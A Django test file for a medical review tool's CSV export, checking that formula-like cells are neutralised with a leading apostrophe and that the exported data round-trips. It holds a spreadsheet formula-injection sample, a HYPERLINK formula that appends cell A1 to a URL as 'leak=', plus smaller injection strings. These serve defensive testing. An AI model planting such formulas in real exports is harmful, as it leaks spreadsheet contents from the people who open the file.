"""CSV exports: one row per record that a spreadsheet opens as text, never running a cell as a formula."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from review.exports.build import build_export, export_folder
from review.exports.formats.csv import neutralised
from review.models import Export
from synth.models import Candidate

# A public reference page: any other web address is an identifier under Safe Harbor, and the export's
# last gate withholds its record (tests/review/exports/test_export_last_gate.py).
HOSTILE = '=HYPERLINK("https://www.cdc.gov/sepsis/?leak="&A1,"Open the chart")'
AWKWARD = 'Dose, "as tolerated"\nthen review; naïve 5 µg — ok'


def export(**settings) -> Export:
    kind = settings.pop("kind", "sft")
    return build_export(Export.objects.create(kind=kind, format="csv", filters=settings))


def rows_of(export_row: Export) -> list[dict[str, str]]:
    with (export_folder(export_row) / "train.csv").open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def test_a_hostile_cell_is_neutralised_and_everything_else_round_trips(double_reviewed):
    first, adjudicated = double_reviewed[0], double_reviewed[3]  # accepted by both; adjudicated accept
    Candidate.objects.filter(pk=first.candidate_id).update(
        instruction=AWKWARD, input="+1 drop", output=HOSTILE
    )
    Candidate.objects.filter(pk=adjudicated.candidate_id).update(input="-", output="@SUM(A1:A9)")

    rows = {row["id"]: row for row in rows_of(export())}

    assert set(rows) == {f"item-{double_reviewed[i].pk}" for i in (0, 1, 3, 4)}
    row = rows[f"item-{first.pk}"]
    assert row["output"] == "'" + HOSTILE  # shown as text: the spreadsheet runs no formula
    assert row["instruction"] == AWKWARD  # commas, quotes, a line break and accents come back as they were
    assert row["input"] == "'+1 drop"
    assert (row["reviews"], row["accepts"], row["edits"], row["rejects"]) == ("2", "2", "0", "0")
    assert (row["verdict"], row["reviewed"], row["released"], row["edited"]) == (
        "accept",
        "true",
        "false",
        "false",
    )
    assert row["adjudicated"] == "false"
    candidate = Candidate.objects.select_related("domain").get(pk=first.candidate_id)
    assert (row["domain"], row["technique"]) == (candidate.domain.name, candidate.technique)
    assert (row["teacher"], row["teacher_model"]) == (candidate.teacher_provider, candidate.teacher_model)
    other = rows[f"item-{adjudicated.pk}"]
    assert (other["input"], other["output"]) == ("'-", "'@SUM(A1:A9)")
    assert (other["accepts"], other["rejects"], other["adjudicated"]) == ("1", "1", "true")
    # No cell of the file starts a formula.
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values())


def test_the_neutralising_rule():
    for cell in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert neutralised(cell) == "'" + cell
    for cell in ["", "Plain text", "1-2 tablets", "a=b", "'quoted"]:
        assert neutralised(cell) == cell


def test_dpo_pairs_as_prompt_chosen_rejected_text(double_reviewed_pairs):
    rows = rows_of(export(kind="dpo"))
    assert rows and all(r["prompt"] and r["chosen"] and r["rejected"] for r in rows)
    assert {"instruction", "messages"}.isdisjoint(rows[0])
    by_id = {r["id"]: r for r in rows}
    first = double_reviewed_pairs[0]  # both physicians preferred the rejected_output response
    candidate = Candidate.objects.get(pk=first.candidate_id)
    row = by_id[f"item-{first.pk}"]
    assert (row["chosen"], row["rejected"]) == (candidate.rejected_output, candidate.output)
    assert candidate.instruction in row["prompt"]


def test_the_download_is_a_csv_attachment(double_reviewed, client, data_lead):
    made = export()
    client.force_login(data_lead)
    response = client.get(reverse("review:export_file", args=[made.pk, "train.csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 5  # header and four records


def test_the_command_writes_csv(double_reviewed, tmp_path):
    from django.core.management import call_command

    call_command("export", "--format", "csv", "--out", str(tmp_path / "out"))
    with (tmp_path / "out" / "train.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert len(list(csv.DictReader(stream))) == 4
